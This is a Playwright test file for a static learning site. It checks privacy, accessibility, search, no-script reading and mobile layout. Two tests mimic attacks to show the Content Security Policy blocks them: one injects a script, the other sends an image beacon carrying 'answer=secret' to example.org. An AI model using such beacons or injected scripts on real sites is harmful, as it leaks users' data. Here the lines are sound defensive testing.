"""The site that is published, page by page: reachable, private, accessible, searchable, and usable without script."""

import json
import re

import pytest
from playwright.sync_api import expect
from reading_site import words
from selectolax.lexbor import LexborHTMLParser
from standard import errors_of
from visiting import visit


@pytest.fixture
def log(page, published):
    """Every request of the page with its answer's status; none may leave the site."""
    answers = []
    page.on("response", lambda answer: answers.append((answer.status, answer.url)))
    page.on("requestfailed", lambda request: answers.append((0, request.url)))
    return answers


def test_no_page_asks_anything_of_another_site_and_everything_it_asks_for_is_there(page, published, log):
    for address in published.pages():
        visit(page, published.root + address)
    elsewhere = {url for _, url in log if not url.startswith((published.root, "data:", "blob:"))}
    assert elsewhere == set()
    assert {answer for answer in log if answer[0] not in (200, 304)} == set()
    assert len(log) > 3 * len(published.pages())


def test_the_checker_of_the_html_standard_finds_no_error(published):
    assert errors_of(published.site) == []


def test_every_page_says_once_what_it_is_about(published):
    said = {page: LexborHTMLParser(page.read_bytes()).css("meta[name=description]") for page in published.files()}
    assert {page for page, found in said.items() if len(found) != 1 or not found[0].attrs["content"]} == set()


def test_every_link_inside_the_module_leads_to_a_page_and_a_place_on_it(page, published):
    links, ids = {}, {}
    for address in published.pages():
        page.goto(published.root + address)
        ids[published.root + address] = set(page.evaluate("[...document.querySelectorAll('[id]')].map(e => e.id)"))
        links[address] = page.evaluate("[...document.querySelectorAll('a[href]')].map(a => a.href)")
    broken = []
    for address, targets in links.items():
        for target in targets:
            place, _, anchor = target.partition("#")
            place = place.partition("?")[0]
            if not target.startswith(published.origin):
                continue
            a_file = (published.site / place.removeprefix(published.root)).is_file()
            if not a_file and (place not in ids or (anchor and anchor not in ids[place])):
                broken.append((address, target))
    assert broken == []


def test_an_address_that_is_not_there_shows_our_page_with_its_looks_and_a_way_home(page, published, log):
    answer = visit(page, published.root + "no/such/page/")
    assert answer.status == 404
    styles = [status for status, url in log if url.endswith(".css")]
    assert styles and set(styles) == {200}
    page.get_by_role("link", name="Community engagement").first.click()
    expect(page).to_have_url(published.root)
    expect(page.locator("h1").first).to_have_text("Community engagement")


def test_search_finds_a_word_and_leads_to_its_section(page, published):
    page.goto(published.root)
    page.get_by_role("link", name="Search", exact=True).click()
    page.get_by_role("searchbox").press_sequentially("thriving")
    hit = page.locator(".module-found a").first
    expect(hit).to_be_visible()
    hit.click()
    expect(page.locator("main")).to_contain_text(re.compile("thriving", re.IGNORECASE))
    expect(page).to_have_url(re.compile("^" + re.escape(published.root) + r"(?!search)"))


def test_the_policy_stops_a_script_that_slipped_in(context, published):
    page = context.new_page()
    page.goto(published.root)
    stopped = page.evaluate(
        """() => new Promise(resolve => {
            document.addEventListener('securitypolicyviolation', event => resolve(event.effectiveDirective));
            const script = document.createElement('script');
            script.textContent = 'window.slippedIn = true';
            document.body.append(script);
        })"""
    )
    assert stopped.startswith("script-src")
    assert page.evaluate("window.slippedIn") is None


def test_the_policy_lets_nothing_be_sent_elsewhere(context, published):
    page = context.new_page()
    page.goto(published.root)
    sent = page.evaluate("fetch('https://example.org/', { mode: 'no-cors' }).then(() => 'sent', () => 'refused')")
    assert sent == "refused"
    stopped = page.evaluate(
        """() => new Promise(resolve => {
            document.addEventListener('securitypolicyviolation', event => resolve(event.effectiveDirective));
            const picture = new Image();
            picture.src = 'https://example.org/?answer=secret';
        })"""
    )
    assert stopped == "img-src"


def test_without_script_a_section_reads_takes_writing_and_says_it_is_not_kept(browser, published):
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(published.root + "why/")
    box = page.locator("reflection-box").first
    box.locator("textarea").fill("Written without script")
    expect(box.locator("textarea")).to_have_value("Written without script")
    expect(box.locator(".reflection-noscript")).to_have_text(words()["box"]["noscript"])
    expect(box.locator(".reflection-noscript")).to_be_visible()
    page.get_by_role("link", name="Next").first.click()
    expect(page).not_to_have_url(published.root + "why/")
    context.close()


def test_without_script_no_page_hides_its_words(browser, published):
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    sections = json.loads((published.site / "module.json").read_text("utf-8"))["sections"]
    for section in (one["path"].removeprefix("./") for one in sections):
        page.goto(published.root + section)
        assert len(page.locator("main").inner_text()) > 200, section
    context.close()


def test_a_written_answer_is_there_after_coming_back_below_the_sub_path(page, published):
    page.goto(published.root + "why/")
    box = page.locator("reflection-box").first
    box.locator("textarea").fill("A grandmother at the door")
    expect(box.locator(".reflection-status")).to_have_text(words()["box"]["saved"])
    page.goto(published.root)
    page.goto(published.root + "why/")
    expect(box.locator("textarea")).to_have_value("A grandmother at the door")
    page.goto(published.root + "workbook/")
    expect(page.locator("main")).to_contain_text("A grandmother at the door")


def test_a_quiz_beside_a_note_looks_like_one_without(browser, published):
    page = browser.new_page(viewport={"width": 390, "height": 844})
    looks = []
    for address in ("guides/", "what/"):
        page.goto(published.root + address)
        looks.append(
            page.locator("reflection-quiz summary").first.evaluate(
                "(part) => ['padding', 'margin', 'fontWeight', 'fontFamily', 'fontSize'].map((name) => getComputedStyle(part)[name])"
            )
        )
    page.close()
    assert looks[0] == looks[1]


def test_no_word_of_a_table_or_a_matrix_is_broken_on_a_phone(browser, published):
    page = browser.new_page(viewport={"width": 390, "height": 844})
    page.goto(published.root + "paperwork/")
    widths = page.locator(".reflection-matrix tbody tr").evaluate_all(
        "(rows) => rows.map((row) => row.querySelector('th').offsetWidth / row.clientWidth)"
    )
    assert len(widths) > 3
    assert min(widths) > 0.8
    page.goto(published.root + "what/")
    assert page.locator("article table").evaluate("(table) => table.scrollWidth - table.clientWidth") <= 0
    page.close()
